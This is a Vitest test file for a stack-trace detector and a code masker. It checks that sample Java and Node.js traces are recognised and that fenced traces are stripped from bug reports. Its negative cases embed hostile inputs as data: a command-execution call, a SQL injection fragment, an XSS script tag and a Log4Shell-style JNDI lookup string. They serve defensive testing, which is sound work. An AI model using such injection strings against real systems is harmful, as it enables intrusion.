import { describe, expect, it } from 'vitest';
import { isQuotedStackTrace } from '../../src/model/stack-frames.js';
import { maskQuotedCode } from '../../src/model/quoted-code.js';

const JAVA = 'Exception in thread "main" java.lang.IllegalStateException: Failed to load ApplicationContext\n\tat org.springframework.boot.SpringApplication.run(SpringApplication.java:1306)\nCaused by: java.lang.ClassNotFoundException: com.example.config.CacheConfig\n\tat java.base/jdk.internal.loader.BuiltinClassLoader.loadClass(BuiltinClassLoader.java:641)\n\tat java.base/java.lang.ClassLoader.loadClass(ClassLoader.java:525)\n\t... 12 more';
const NODE = 'Error: ECONNREFUSED 127.0.0.1:6379\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)\n    at RedisClient.connect (/srv/app/node_modules/redis/dist/index.js:212:19)';

describe('isQuotedStackTrace', () => {
  it('reads a printed Java or Node.js trace as one', () => {
    expect(isQuotedStackTrace(JAVA)).toBe(true);
    expect(isQuotedStackTrace(NODE)).toBe(true);
  });

  it('does not read a trace with code, a message that could carry a payload, or one frame as one', () => {
    expect(isQuotedStackTrace('java.lang.Exception: x\n\tat a.B.c(B.java:1)\n\tat a.B.d(B.java:2)\nRuntime.getRuntime().exec("id");')).toBe(false);
    expect(isQuotedStackTrace("Error: ' OR 1=1 --\n    at f (/a.js:1:2)\n    at g (/a.js:2:3)")).toBe(false);
    expect(isQuotedStackTrace('Error: <script>alert(1)</script>\n    at f (/a.js:1:2)\n    at g (/a.js:2:3)')).toBe(false);
    expect(isQuotedStackTrace('java.lang.Exception: x\n\tat a.B.c(B.java:1)')).toBe(false);
    expect(isQuotedStackTrace('${jndi:ldap://x.example/a}\n\tat a.B.c(B.java:1)\n\tat a.B.d(B.java:2)')).toBe(false);
  });

  it("is taken out of a bug report's fence, and says it needed its lines", () => {
    const found = { multiLine: false };
    expect(maskQuotedCode(`Getting this since 2.14:\n\n\`\`\`\n${JAVA}\n\`\`\`\n\nAny idea?`, found)).toBe('Getting this since 2.14:\n\n \n\nAny idea?');
    expect(found.multiLine).toBe(true);
  });
});
